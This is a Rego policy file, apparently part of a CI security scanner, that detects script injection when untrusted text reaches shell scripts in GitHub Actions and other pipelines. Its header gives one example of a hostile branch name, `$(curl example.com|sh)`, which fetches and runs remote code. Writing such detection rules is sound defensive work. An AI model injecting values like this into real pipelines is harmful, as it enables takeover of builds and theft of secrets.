# METADATA
# title: No text of strangers becomes part of a script
# description: |
#   `${{ … }}` is replaced before the shell or the interpreter reads the script. The title of an issue, a comment, a
#   commit message or the name of a branch then is code: a branch may be called `$(curl example.com|sh)`. The detour
#   over `${{ env.NAME }}`, an output, a matrix or the input of a called workflow changes nothing; a shell variable,
#   `"$NAME"`, does, because the shell does not read its value as code, unless `eval` or `bash -c` does. What a person
#   types when starting a workflow by hand counts as well, with less weight.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#     description: GitHub, script injections
#   - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/
#     description: OWASP Top 10 CI/CD security risks, CICD-SEC-4
# custom:
#   severity: high
#   profile: baseline
#   checklists: [publisher]
#   remediation: |
#     Hand the value over in a variable and read it there: `env: TITLE: ${{ github.event.issue.title }}` with
#     `run: echo "$TITLE"`, and in `actions/github-script` use `context.payload` or `process.env.TITLE`.
package palisade.ci.script_injection

import data.palisade.lib.triggers
import data.palisade.lib.untrusted

deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some expression in step.expressions
	expression["in"] == "run"
	_may_carry(expression)
	some violation in _violations(pipeline, job, expression)
}

# The same for inputs that an action runs.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	step.uses.action in _script_actions
	some expression in step.expressions
	lower(expression["in"]) in _script_inputs[step.uses.action]
	_may_carry(expression)
	some violation in _violations(pipeline, job, expression)
}

# A variable is data, until something reads its value as a script once more.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some command in step.commands
	command.program in _evaluators
	untrusted.may_hold(pipeline, job, step)
	some argument in _evaluated(command)
	contains(argument, "$")
	some name, origins in untrusted.variables(pipeline, job, step)
	untrusted.reads_variable(argument, name)
	violation := {
		"msg": sprintf("`%s` runs what `$%s` holds, `%s`, in job `%s`", [command.program, name, min(origins), job.id]),
		"at": command.at,
		"severity": _severity(pipeline, job),
	}
}

# What a shell around the command puts into its text: `eval "echo $A"`, `bash -c "echo $A"`, `bash <<< "$A"`.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some command in step.commands
	some text in command.rereads
	untrusted.may_hold(pipeline, job, step)
	some name, origins in untrusted.variables(pipeline, job, step)
	untrusted.reads_variable(text, name)
	violation := {
		"msg": sprintf("`%s` runs what `$%s` holds, `%s`, in job `%s`", [_shell(command), name, min(origins), job.id]),
		"at": command.at,
		"severity": _severity(pipeline, job),
	}
}

_shell(command) := command.through[count(command.through) - 1] if {
	count(command.through) > 0
} else := command.program

# What is printed for a shell to run: `echo "$A" | bash`, `source <(echo "$A")`.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some index, command in step.commands
	command.program in _readers
	some feeder in command.fed_by
	feeder in {"echo", "printf"}
	untrusted.may_hold(pipeline, job, step)
	_runs_input(command)
	printer := step.commands[[index - 1, index + 1][_]]
	printer.program == feeder
	some argument in printer.arguments
	some name, origins in untrusted.variables(pipeline, job, step)
	untrusted.reads_variable(argument, name)
	violation := {
		"msg": sprintf("`%s` runs what `$%s` holds, `%s`, in job `%s`", [command.program, name, min(origins), job.id]),
		"at": command.at,
		"severity": _severity(pipeline, job),
	}
}

_readers := {".", "bash", "dash", "ksh", "node", "perl", "php", "python", "python3", "ruby", "sh", "source", "zsh"}

_runs_input(command) if count(command.operands) == 0

_runs_input(command) if command.arguments[0] in {"-", "-s", "/dev/stdin"}

_runs_input(command) if startswith(command.arguments[0], "<(")

# Elsewhere the provider itself sets variables for what strangers write.
deny contains violation if {
	some pipeline in input.pipelines
	pipeline.provider in {"azure", "bitbucket", "circleci", "gitlab"}
	names := _predefined[pipeline.provider]
	some job in pipeline.jobs
	some step in job.steps
	some command in step.commands
	[program, arguments] := _evaluation(command)
	some argument in arguments
	contains(argument, "$")
	some name in names
	untrusted.reads_variable(argument, name)
	violation := {
		"msg": sprintf("`%s` runs what `$%s` holds in job `%s`", [program, name, job.id]),
		"at": command.at,
		"severity": _severity(pipeline, job),
	}
}

_evaluation(command) := [command.program, _evaluated(command)] if command.program in _evaluators

# Where its words are plain, what `eval` runs is told as a command of its own.
_evaluation(command) := ["eval", command.arguments] if {
	not command.program in _evaluators
	"eval" in command.through
}

_predefined := {
	"azure": {"BUILD_SOURCEVERSIONMESSAGE", "SYSTEM_PULLREQUEST_SOURCEBRANCH"},
	"bitbucket": {"BITBUCKET_BRANCH", "BITBUCKET_TAG"},
	"circleci": {"CIRCLE_BRANCH", "CIRCLE_TAG"},
	"gitlab": {
		"CI_COMMIT_BRANCH",
		"CI_COMMIT_DESCRIPTION",
		"CI_COMMIT_MESSAGE",
		"CI_COMMIT_REF_NAME",
		"CI_COMMIT_TAG",
		"CI_COMMIT_TITLE",
		"CI_MERGE_REQUEST_DESCRIPTION",
		"CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
		"CI_MERGE_REQUEST_TITLE",
	},
}

_violations(pipeline, job, expression) := found if {
	found := _direct(pipeline, job, expression)
	count(found) > 0
} else := _through(pipeline, job, expression) if {
	count(expression.sources) > 0
}

# Asked of every expression of a script, so that the others are left out beforehand: most of them read nothing of a
# stranger's, and nothing that is set elsewhere by what may be told.
_may_carry(expression) if {
	untrusted.may_carry(expression)
} else if {
	some source in expression.sources
	_may_tell(source)
} else if {
	some context in expression.contexts
	startswith(context, "github.event.inputs.")
}

# No other source has a rank.
_may_tell(source) if {
	untrusted.is_untrusted(source.context)
} else if {
	startswith(source.context, "github.event.inputs.")
} else if {
	source.through[0].what in _telling_ways
} else if {
	source.through[0].what == "a script"
	regex.match(_of_files, source.context)
}

_direct(pipeline, job, expression) := {violation |
	found := untrusted.in_expression(expression)
	count(found) > 0
	violation := {
		"msg": sprintf("whoever writes `%s` can run commands in job `%s`", [min(found), job.id]),
		"at": expression.at,
		"severity": _severity(pipeline, job),
	}
} | {violation |
	some context in expression.contexts
	startswith(context, "github.event.inputs.")
	not context in object.get(expression, "tested", [])
	some option in pipeline.inputs
	context == sprintf("github.event.inputs.%s", [lower(option.name)])
	_is_free(option)
	violation := {
		"msg": sprintf("whoever starts the workflow can run commands in job `%s` through `%s`", [job.id, context]),
		"at": expression.at,
		"severity": "medium",
		"related": [{"at": option.at, "msg": "any text is accepted here"}],
	}
}

# What comes by a detour: the worst of the sources is told.
_through(pipeline, job, expression) := {violation |
	ways := {[_rank(pipeline, job, source), source] |
		some source in expression.sources
		_may_tell(source)
	}
	count(ways) > 0
	[rank, source] := min(ways)
	violation := {
		"msg": sprintf("%s into the script of job `%s`", [_carries(expression, source), job.id]),
		"at": expression.at,
		"severity": ["critical", "high", "medium", "low"][rank],
		"related": [{"at": passage.at, "msg": sprintf("through `%s`", [passage.what])} | some passage in source.through],
	}
}

_carries(expression, source) := sprintf("`%s` carries `%s`", [expression.text, source.context]) if {
	not contains(lower(expression.text), source.context)
} else := sprintf("`%s`, the text of a file that a stranger made, comes", [source.context]) if {
	source.through[0].what == "a file"
} else := sprintf("`%s` of `%s` comes", [source.context, source.through[0].what])

_rank(pipeline, job, source) := _ranks[_severity(pipeline, job)] if {
	_is_strange(pipeline, job, source)
} else := 2 if {
	source.at in _free_places
	startswith(source.context, "github.event.inputs.")
} else := 3 if {
	_is_escaped(pipeline, source)
} else := 3 if {
	_names_files(source)
	_of_change(pipeline, job)
}

_ranks := {"critical": 0, "high": 1, "medium": 2}

# With rights and secrets it is a takeover; on a change from a fork the token can only read, and by hand only people
# with rights start a workflow.
_severity(pipeline, job) := "critical" if {
	count(triggers.reaching_events(input.pipelines, pipeline, job)) > 0
} else := "medium" if {
	pipeline.kind == "workflow"
	every trigger in _triggers(pipeline, job) {
		trigger.event in {"merge_group", "pull_request", "schedule", "workflow_dispatch"}
	}
	count(_triggers(pipeline, job)) > 0
} else := "high"

_triggers(pipeline, job) := object.get(job, "triggers", pipeline.triggers)

_of_change(pipeline, job) if {
	some trigger in _triggers(pipeline, job)
	trigger.event in triggers.change_events
}

# A choice, a switch and a number leave no room for commands.
_is_free(option) if {
	option.event == "workflow_dispatch"
	option.type == "string"
}

_free_places := {option.at |
	some pipeline in input.pipelines
	some option in pipeline.inputs
	_is_free(option)
}

_is_strange(_, _, source) if source.context in untrusted.contexts

_is_strange(pipeline, _, source) if {
	regex.match(_telling_outputs[source.through[0].what], source.context)
	not _is_escaped(pipeline, source)
}

# `tj-actions/changed-files` escapes names since 41.0.0, unless it is told not to. Between quotes they may still break
# out.
_is_escaped(pipeline, source) if {
	source.through[0].what == "tj-actions/changed-files"
	some job in pipeline.jobs
	some step in job.steps
	step.uses.action == "tj-actions/changed-files"
	step.uses.at == source.at
	not _is_told_not_to(step)
	not _is_before_41(step.uses.pin)
}

_is_told_not_to(step) if lower(step["with"].safe_output) == "false"

_is_before_41(pin) if {
	some text in [pin.ref, object.get(pin, "comment", "")]
	some version in regex.find_all_string_submatch_n(`^(?:.*@)?v?([0-9]{1,9})(?:$|\.|\s)`, text, 1)
	to_number(version[1]) < 41
}

# What a run before left behind in a file may come from a change.
_is_strange(pipeline, job, source) if {
	source.through[0].what == "a file"
	count(triggers.reaching_events(input.pipelines, pipeline, job)) > 0
	untrusted.comes_from_artifact(pipeline, source)
}

# A script that asks the API for a change and hands on the name of its branch.
_is_strange(_, job, source) if {
	source.through[0].what == "actions/github-script"
	regex.match(`[._-](branch|ref|repo|repository|title|body)$`, source.context)
	some writer in job.steps
	startswith(source.at, concat("", [writer.at, "/"]))
	regex.match(`(?i)pull_?request\.head\b|\.head\.(ref|label|repo)\b`, writer["with"].script)
}

# What a script finds among the files of a change, by the name that it gives it.
_names_files(source) if {
	source.through[0].what in {"a script", "a file", "actions/github-script"}
	regex.match(_of_files, source.context)
}

_of_files := `\.outputs\.([a-z0-9]+[_-])*(dirs|directories|files|folders|packages|paths|workspaces)$`

# Outputs that hold names of files, branches or fields as strangers wrote them.
_telling_outputs := {
	"8bitjonny/gh-get-current-pr": `\.outputs\.pr_(title|body)$`,
	"alessbell/pull-request-comment-branch": `\.head_ref$`,
	"ana06/get-changed-files": `\.outputs\.`,
	"dorny/paths-filter": `_files$`,
	"eficode/resolve-pr-refs": `\.head_ref$`,
	"jitterbit/get-changed-files": `\.outputs\.`,
	"peter-evans/find-comment": `\.comment-body$`,
	"potiuk/get-workflow-origin": `\.sourceheadbranch$`,
	"stefanbuck/github-issue-parser": `\.outputs\.(jsonstring|issueparser_)`,
	"tj-actions/branch-names": `_branch$`,
	"tj-actions/changed-files": `_files$`,
	"trilom/file-changes-action": `\.outputs\.`,
	"xt0rted/pull-request-comment-branch": `\.head_ref$`,
}

# The same names as a set of words, with what is told otherwise.
_telling_ways := {
	"8bitjonny/gh-get-current-pr",
	"a file",
	"actions/github-script",
	"alessbell/pull-request-comment-branch",
	"ana06/get-changed-files",
	"dorny/paths-filter",
	"eficode/resolve-pr-refs",
	"jitterbit/get-changed-files",
	"peter-evans/find-comment",
	"potiuk/get-workflow-origin",
	"stefanbuck/github-issue-parser",
	"tj-actions/branch-names",
	"tj-actions/changed-files",
	"trilom/file-changes-action",
	"xt0rted/pull-request-comment-branch",
}

_evaluators := {"bash", "dash", "eval", "ksh", "node", "perl", "php", "python", "python3", "ruby", "sh", "zsh"}

# The words that a program runs as a script. Of `bash -c 'echo "$A"'` nobody sees here which shell replaces `$A`.
_evaluated(command) := command.arguments if command.program == "eval"

_evaluated(command) := {script |
	some index, argument in command.arguments
	argument in {"-c", "-e", "--eval", "-ec", "-lc", "-r", "-xc"}
	script := command.arguments[index + 1]
} if {
	command.program != "eval"
}

# Inputs that an action runs as code, in lower case.
_script_inputs := {
	"actions/github-script": {"with/script"},
	"addnab/docker-run-action": {"with/options", "with/run"},
	"amadevus/pwsh-script": {"with/script"},
	"appleboy/ssh-action": {"with/script"},
	"azure/cli": {"with/inlinescript"},
	"azure/powershell": {"with/inlinescript"},
	"cardinalby/js-eval-action": {"with/expression"},
	"devcontainers/ci": {"with/runcmd"},
	"jannekem/run-python-script-action": {"with/script"},
	"mikefarah/yq": {"with/cmd"},
	"nick-fields/retry": {"with/command"},
	"nick-invision/retry": {"with/command"},
	"reactivecircus/android-emulator-runner": {"with/script"},
}

# The same names as a set of words, so that steps without such an action are left out beforehand.
_script_actions := {
	"actions/github-script",
	"addnab/docker-run-action",
	"amadevus/pwsh-script",
	"appleboy/ssh-action",
	"azure/cli",
	"azure/powershell",
	"cardinalby/js-eval-action",
	"devcontainers/ci",
	"jannekem/run-python-script-action",
	"mikefarah/yq",
	"nick-fields/retry",
	"nick-invision/retry",
	"reactivecircus/android-emulator-runner",
}
